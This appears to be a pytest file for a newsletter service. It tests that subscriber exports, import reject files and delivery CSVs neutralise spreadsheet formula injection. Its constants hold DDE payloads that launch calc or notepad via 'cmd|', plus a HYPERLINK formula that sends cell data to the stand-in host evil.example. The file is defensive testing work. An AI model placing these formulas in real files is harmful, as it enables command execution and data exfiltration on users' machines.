"""CSV formula injection: what anyone can type on the signup form, or put in a file to
import, comes out of every CSV we write as text, never as a spreadsheet formula.

Sites: the subscriber export (``subscribers export``), the import's reject file (CLI and
``/redaktion/import``) and the delivery page's "who did not get it" CSV. A file we
exported imports back with the values as they were stored.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from litestar.testing import AsyncTestClient
from sqlalchemy.ext.asyncio import AsyncSession

from service.app import create_app
from service.db import create_engine, create_session_factory
from service.delivery import service as delivery
from service.settings import Settings
from subscribers import service as subs
from tests.conftest import DatabaseTemplates, make_settings
from tests.core.test_csvsafe import STARTS
from tests.delivery.helpers import drain
from tests.editor.helpers import login, make_editor
from tests.factories import add_subscribers, make_issue
from tests.ops.helpers import arun
from tests.pages import Client
from tests.smtp import SmtpServer
from tests.subscribers.helpers import confirm_latest, signup

DDE = "=cmd|' /C calc'!A0"
LINK = '@HYPERLINK("https://evil.example/?d="&A1,"Klicka här")'
SUM = "+SUM(1+1)*cmd|' /C notepad'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
ADDRESS = "=cmd|'/ccalc'!a0@exempel.se"  # a valid address (every character is atext)


def _no_formula(rows: list[list[str]]) -> None:
    """No cell starts with a formula character, also not after leading whitespace."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(STARTS), (cell, row)
            assert not cell.lstrip().startswith(STARTS), (cell, row)


@pytest.fixture
def other_db_url(backend: str, db_templates: DatabaseTemplates, tmp_path: Path) -> Iterator[str]:
    """A second fresh database on the same backend (another installation)."""
    if backend == "sqlite":
        directory = tmp_path / "andra"
        directory.mkdir()
        yield db_templates.new_sqlite(directory)
        return
    url = db_templates.new_pg()
    yield url
    name = url.rsplit("/", 1)[1]
    db_templates.drop_pg(name)
    db_templates.pg_databases.remove(name)


async def test_signup_values_are_exported_as_text_and_import_back_unchanged(
    client: Client, settings: Settings, tmp_path: Path, other_db_url: str
) -> None:
    response = await signup(client, ADDRESS, name=DDE, organisation=LINK, role=SUM)
    assert response.status_code == 200, response.text
    assert (await confirm_latest(client, settings)).status_code == 200
    response = await signup(client, "minus@exempel.se", name=MINUS, organisation="Region Halland")
    assert (await confirm_latest(client, settings)).status_code == 200

    out = tmp_path / "export.csv"
    exported = await arun(
        settings, "subscribers", "export", "--format", "csv", "--output", str(out)
    )
    assert exported.exit_code == 0, exported.output
    text = out.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    _no_formula(rows)
    by_email = {r["email"]: r for r in csv.DictReader(io.StringIO(text))}
    # What the spreadsheet shows: the text as typed, after the quote that makes it text.
    person = by_email["'" + ADDRESS]
    assert (person["name"], person["organisation"], person["role"]) == (
        "'" + DDE,
        "'" + LINK,
        "'" + SUM,
    )
    assert by_email["minus@exempel.se"]["name"] == "'" + MINUS
    assert by_email["minus@exempel.se"]["organisation"] == "Region Halland"  # untouched

    # The export imports into another installation with the values as they were typed.
    other = make_settings(tmp_path / "andra", other_db_url)
    imported = await arun(
        other,
        "subscribers",
        "import",
        str(out),
        "--list",
        "nyhetsbrev",
        "--basis",
        "consent",
        "--source",
        "export från första installationen",
    )
    assert imported.exit_code == 0, imported.output
    assert "Giltiga (importerade): 2" in imported.output
    engine = create_engine(other.database_url)
    try:
        async with create_session_factory(engine)() as session:
            copy = await subs.find_by_address(session, ADDRESS)
            assert copy is not None
            assert (copy.name, copy.organisation, copy.role) == (DDE, LINK, SUM)
            minus = await subs.find_by_address(session, "minus@exempel.se")
            assert minus is not None and minus.name == MINUS
    finally:
        await engine.dispose()


async def test_import_reject_file_neutralises_every_cell(
    settings: Settings, session: AsyncSession, tmp_path: Path
) -> None:
    source = tmp_path / "medlemmar.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows(
            [
                ["Namn", "E-post", "Organisation", "Roll"],
                [DDE, "inte-en-adress", SUM, ""],  # invalid address
                ["Åsa", "asa@exempel.se", "Region Halland", ""],
                [LINK, "ASA@exempel.se", "   =1+1", MINUS],  # duplicate of the row above
                ["\t=1+1", "ingen-adress", "\r=2+2", ""],  # invalid; tab and CR first
                ["=1+2", "=1+2", "@", "-"],  # invalid address
            ]
        )
    rejects = tmp_path / "avvisade.csv"
    result = await arun(
        settings,
        "subscribers",
        "import",
        str(source),
        "--list",
        "nyhetsbrev",
        "--basis",
        "consent",
        "--source",
        "formler",
        "--reject-file",
        str(rejects),
    )
    assert result.exit_code == 0, result.output
    with rejects.open(encoding="utf-8-sig", newline="") as handle:
        header, *rows = csv.reader(handle, delimiter=";")
    assert header == ["rad", "Namn", "E-post", "Organisation", "Roll", "orsak"]
    rows = [header, *sorted(rows, key=lambda r: int(r[0]))]  # duplicates come after a batch
    assert [r[0] for r in rows] == ["rad", "2", "4", "5", "6"]
    _no_formula(rows)
    assert rows[1][1:4] == ["'" + DDE, "inte-en-adress", "'" + SUM]
    assert rows[2][1:5] == ["'" + LINK, "ASA@exempel.se", "'   =1+1", "'" + MINUS]
    assert rows[3][1:4] == ["'\t=1+1", "ingen-adress", "'\r=2+2"]
    assert rows[4][1:5] == ["'=1+2", "'=1+2", "'@", "'-"]
    assert all(r[-1] for r in rows[1:])  # every row has its reason
    asa = await subs.find_by_address(session, "asa@exempel.se")
    assert asa is not None and asa.name == "Åsa"


async def test_delivery_csv_neutralises_the_addresses_that_did_not_get_it(
    tmp_path: Path, db_url: str, smtp_server: SmtpServer, session: AsyncSession
) -> None:
    settings = make_settings(tmp_path, db_url, INNAN_SMTP_URL=smtp_server.url)
    await add_subscribers(session, 1, prefix="=cmd|'/ccalc'!a")
    await add_subscribers(session, 1, prefix="-2+")
    await add_subscribers(session, 1, prefix="vanlig")
    smtp_server.refuse_recipient(ADDRESS, "550 5.1.1 Ingen sådan användare")
    smtp_server.refuse_recipient("-2+0@exempel.se", "550 5.1.1 Ingen sådan användare")
    issue = await make_issue(session)
    await delivery.start_send(session, settings, issue.id, at=None, actor="test")
    await session.commit()
    await drain(settings, retry_base_seconds=0)
    await make_editor(session)

    async with AsyncTestClient(app=create_app(settings), base_url="http://testserver.local") as c:
        await login(c)
        response = await c.get(f"/redaktion/utskick/{issue.id}/leverans.csv")
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["e-post", "status", "orsak", "försök"]
    _no_formula(rows)
    assert sorted(r[0] for r in rows[1:]) == ["'-2+0@exempel.se", "'" + ADDRESS]
    assert all("Ingen sådan användare" in r[2] for r in rows[1:])
